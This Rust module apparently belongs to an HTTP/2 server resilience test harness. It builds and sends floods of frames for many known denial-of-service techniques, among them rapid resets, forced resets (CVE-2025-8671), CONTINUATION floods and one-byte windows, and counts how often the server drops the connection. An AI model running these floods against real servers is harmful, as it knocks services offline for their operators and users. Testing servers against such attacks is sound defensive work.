//! Floods of frames: each says something cheap that may cost the server more.

use std::time::Instant;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NO_WINDOW, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, greeting, head, header, request, stream,
};
use super::{Attack, Attacker, MALLORY, MAPS, Outcome};

/// Units that are sent at once.
const BATCH: u32 = 100;

/// What a flood says first, and then again and again.
struct Flood {
    settings: &'static [u8],
    first: Vec<u8>,
    unit: fn(u32) -> Vec<u8>,
}

impl Flood {
    fn of(unit: fn(u32) -> Vec<u8>) -> Flood {
        Flood {
            settings: &[],
            first: Vec::new(),
            unit,
        }
    }

    /// Begins with the first stream, whose head is this.
    fn on(self, flags: u8, head: &[u8]) -> Flood {
        let first = frame(HEADERS, flags, 1, head);
        Flood { first, ..self }
    }
}

/// `None`: it is no flood.
fn flood(attack: Attack) -> Option<Flood> {
    let list = || head("GET", MAPS, MALLORY);
    let post = || head("POST", MAPS, MALLORY);
    let flood = match attack {
        Attack::RapidResets => Flood::of(|n| {
            let reset = frame(RST_STREAM, 0, stream(n), &CANCEL);
            [request(n, MAPS, MALLORY), reset].concat()
        }),
        // The server has to reset these streams: CVE-2025-8671.
        Attack::ForcedResets => Flood::of(|n| {
            let overflow = frame(WINDOW_UPDATE, 0, stream(n), &[0x7f, 0xff, 0xff, 0xff]);
            [request(n, MAPS, MALLORY), overflow].concat()
        }),
        Attack::Continuations => {
            Flood::of(|n| frame(CONTINUATION, 0, 1, &header(&format!("a{n}"), &"v".repeat(500), false)))
                .on(END_STREAM, &list())
        }
        Attack::EmptyContinuations => Flood::of(|_| frame(CONTINUATION, 0, 1, &[])).on(END_STREAM, &list()),
        Attack::Settings => Flood::of(|n| {
            let table = if n % 2 == 0 { 4096_u32 } else { 0 };
            frame(SETTINGS, 0, 0, &[&[0, 1][..], &table.to_be_bytes()].concat())
        }),
        Attack::Pings => Flood::of(|_| frame(PING, 0, 0, &[0; 8])),
        Attack::Priorities => Flood::of(|n| frame(PRIORITY, 0, stream(n), &[0, 0, 0, 0, 16])),
        Attack::WindowUpdates => Flood::of(|_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        Attack::EmptyData => Flood::of(|_| frame(DATA, 0, 1, &[])).on(END_HEADERS, &post()),
        Attack::PaddedData => {
            Flood::of(|_| frame(DATA, 8, 1, &[&[255][..], &[0; 255]].concat())).on(END_HEADERS, &post())
        }
        Attack::UnfoldingHeads => Flood::of(|n| {
            let entry = || header("x", &"v".repeat(3_900), true);
            let more = if n == 0 { entry() } else { vec![0xbe; 15_000] };
            let block = [head("GET", "/livez", MALLORY), more].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &block)
        }),
        // Each makes the server send one byte of a long answer.
        Attack::OneByteWindows => Flood {
            settings: &NO_WINDOW,
            ..Flood::of(|_| frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])).on(END_STREAM | END_HEADERS, &list())
        },
        // As many streams as may be open, whose windows open and close all together.
        Attack::Toggles => Flood {
            settings: &NO_WINDOW,
            first: (0..100).flat_map(|n| request(n, MAPS, MALLORY)).collect(),
            ..Flood::of(|n| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, u8::from(n % 2 == 0)]))
        },
        _ => return None,
    };
    Some(flood)
}

/// Floods connection after connection; the outcome counts those that the server ended.
pub async fn run(attack: Attack, attacker: &Attacker, until: Instant) -> Option<Outcome> {
    let flood = flood(attack)?;
    let mut outcome = Outcome::default();
    while Instant::now() < until {
        let Some(connection) = attacker.open(true).await else {
            continue;
        };
        outcome.opened += 1;
        let (mut read, mut write) = tokio::io::split(connection);
        let reading = tokio::spawn(async move { tokio::io::copy(&mut read, &mut tokio::io::sink()).await.is_ok() });
        let mut sent = write
            .write_all(&[greeting(flood.settings), flood.first.clone()].concat())
            .await;
        let mut n = 0;
        while sent.is_ok() && Instant::now() < until {
            let units: Vec<u8> = (n..n + BATCH).flat_map(flood.unit).collect();
            let writing = tokio::time::timeout_at(until.into(), write.write_all(&units));
            sent = writing.await.unwrap_or(Ok(()));
            n += BATCH;
            outcome.units += u64::from(BATCH);
        }
        outcome.ended += usize::from(sent.is_err());
        reading.abort();
    }
    Some(outcome)
}

/// Reads what comes for as long as something does.
pub async fn drain(stream: &mut (impl tokio::io::AsyncRead + Unpin), quiet: std::time::Duration) -> Vec<u8> {
    let mut came = Vec::new();
    while let Ok(Ok(1..)) = tokio::time::timeout(quiet, stream.read_buf(&mut came)).await {}
    came
}
